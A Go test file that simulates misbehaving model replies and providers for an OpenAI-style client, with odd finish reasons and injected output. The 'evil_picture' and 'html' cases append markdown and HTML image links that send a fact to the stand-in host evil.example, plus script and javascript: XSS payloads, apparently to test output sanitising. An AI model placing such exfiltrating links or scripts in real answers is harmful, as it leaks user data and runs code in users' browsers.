package openaitest

// outputBehaviours are models that write other things than an answer, and providers that report wrong numbers.
var outputBehaviours = []Behaviour{
	{Name: "network_error_end", Change: func(_ string, r Request, a Reply) Reply {
		return endingAs(r, a, "network_error")
	}},
	// The provider breaks off an answer that it began.
	{Name: "filter_end", Change: func(_ string, r Request, a Reply) Reply { return endingAs(r, a, "content_filter") }},
	// The reason of each end is in the provider's own words.
	{Name: "end_words", Example: "end_turn", Change: func(word string, r Request, a Reply) Reply { return endingAs(r, a, word) }},
	// An answer shows a picture whose address carries a fact to another host. The page has the same in HTML.
	{Name: "evil_picture", Change: func(_ string, r Request, a Reply) Reply {
		return adding(r, a, "\n\n![s](https://evil.example/p?q=FACT) ![t][e]\n\n[e]: https://evil.example/q")
	}},
	{Name: "html", Change: func(_ string, r Request, a Reply) Reply {
		return adding(r, a, "\n\n<img src=\"https://evil.example/p?q=FACT\"><script>alert(1)</script><a href=\"javascript:alert(1)\">这里</a>")
	}},
}

// adding puts text behind answers in words to questions.
func adding(r Request, a Reply, text string) Reply {
	if r.Kind != Chat || len(a.calls) > 0 {
		return a
	}
	return a.WithContent(a.text + text)
}

// endingAs changes the reason of answers in words to questions.
func endingAs(r Request, a Reply, reason string) Reply {
	if r.Kind != Chat || len(a.calls) > 0 {
		return a
	}
	return a.Finish(reason)
}
